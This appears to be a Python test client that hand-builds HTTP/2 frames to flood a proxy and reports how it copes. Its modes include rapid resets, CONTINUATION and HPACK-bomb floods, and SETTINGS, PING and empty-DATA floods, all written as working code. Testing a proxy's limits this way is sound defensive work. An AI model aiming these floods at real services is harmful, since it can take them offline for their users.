"""A bot that floods its proxy with frames of HTTP/2, made by hand. Arguments: HOST:PORT or unix:PATH, kind.

Prints a JSON object: how many frames left, the statuses that were no literal are counted only: answered and reset streams, the code of the GOAWAY, and
whether the proxy ended the connection.
"""
import json
import select
import socket
import struct
import sys

where, kind = sys.argv[1:3]
if where.startswith("unix:"):
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(where[5:])
else:
    host, port = where.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)))
sock.setblocking(False)

DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def length(n):
    """RFC 7541 §5.1, with a prefix of 7 bits."""
    if n < 127:
        return bytes([n])
    out, n = b"\x7f", n - 127
    while n >= 128:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])


def field(name, value, form=b"\x00"):
    return form + length(len(name)) + name + length(len(value)) + value


def request(path, method=b"GET"):
    head = [(b":method", method), (b":scheme", b"http"), (b":authority", b"orders.prod.mesh"), (b":path", path)]
    return b"".join(field(*pair) for pair in head)


def cut(stream, block, flags=END_STREAM):
    """A block of fields in frames of 16 KiB."""
    parts = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    for n, part in enumerate(parts):
        last = END_HEADERS if n == len(parts) - 1 else 0
        yield frame(HEADERS, flags | last, stream, part) if n == 0 else frame(CONTINUATION, last, stream, part)


def frames():
    get = request(b"/orders/17")
    if kind == "resets":
        for n in range(20_000):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, get) + frame(RST, 0, 2 * n + 1, struct.pack("!I", 8))
    elif kind == "provoked":
        # A window beyond 2^31 - 1: the other end has to reset the stream.
        for n in range(20_000):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, get) + frame(WINDOW, 0, 2 * n + 1, struct.pack("!I", 0x7FFFFFFF))
    elif kind == "continuation":
        yield frame(HEADERS, END_STREAM, 1, get)
        for _ in range(4_000):
            yield frame(CONTINUATION, 0, 1, field(b"x", b"y" * 16_000))
    elif kind == "list":
        for n in range(200):
            yield from cut(2 * n + 1, get + field(b"x", b"y" * 1_000) * 100)
    elif kind == "bomb":
        # One field of 4 KB goes into the table, and each byte that follows names it again.
        for n in range(50):
            yield from cut(2 * n + 1, get + field(b"x", b"y" * 4_000, b"\x40") + b"\xbe" * 60_000)
    elif kind == "streams":
        for n in range(300):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, request(b"/orders/ticks"))
    elif kind == "empty":
        yield frame(HEADERS, END_HEADERS, 1, request(b"/refunds", b"POST"))
        for _ in range(200_000):
            yield frame(DATA, 0, 1)
    elif kind == "settings":
        for _ in range(200_000):
            yield frame(SETTINGS, 0, 0)
    elif kind == "pings":
        for _ in range(200_000):
            yield frame(PING, 0, 0, b"12345678")
    elif kind == "acks":
        for _ in range(200_000):
            yield frame(PING, 1, 0, b"12345678")
    elif kind == "windows":
        yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))
        for n in range(256):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, get)


told = {"frames": 0, "answered": 0, "reset": 0, "refused": 0, "goaway": None, "closed": False}
received = b""


def look():
    """Reads what is there."""
    global received
    try:
        data = sock.recv(1 << 20)
    except BlockingIOError:
        return
    except ConnectionError:
        data = b""
    if not data:
        told["closed"] = True
        return
    received += data
    at = 0
    while len(received) - at >= 9:
        size = int.from_bytes(received[at : at + 3], "big")
        if len(received) - at < 9 + size:
            break
        what, flags, payload = received[at + 3], received[at + 4], received[at + 9 : at + 9 + size]
        at += 9 + size
        if what == HEADERS:
            told["answered"] += 1
        elif what == RST:
            told["reset"] += 1
            told["refused"] += int.from_bytes(payload, "big") == 7
        elif what == 7:
            told["goaway"] = max(told["goaway"] or 0, int.from_bytes(payload[4:8], "big"))
    received = received[at:]


reads = kind not in ("settings", "pings")
pending = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
for piece in frames():
    pending += piece
    told["frames"] += 1
    if len(pending) < 65536:
        continue
    stuck = False
    while pending and not told["closed"] and not stuck:
        readable, writable, _ = select.select([sock] if reads else [], [sock], [], 2)
        # A proxy that takes nothing from somebody who reads nothing is bounded too.
        stuck = not readable and not writable
        if readable:
            look()
        if writable:
            try:
                pending = pending[sock.send(pending) :]
            except BlockingIOError:
                pass
            except ConnectionError:
                told["closed"] = True
    if told["closed"] or stuck:
        break
sock.setblocking(True)
sock.settimeout(5)
try:
    if pending and not told["closed"]:
        sock.sendall(pending)
except OSError:
    pass
print("sent", flush=True)
if len(sys.argv) > 3:
    # Stays until it is told to go.
    sys.stdin.readline()
sock.settimeout(1)
try:
    while not told["closed"]:
        look()
except TimeoutError:
    pass
print(json.dumps(told), flush=True)
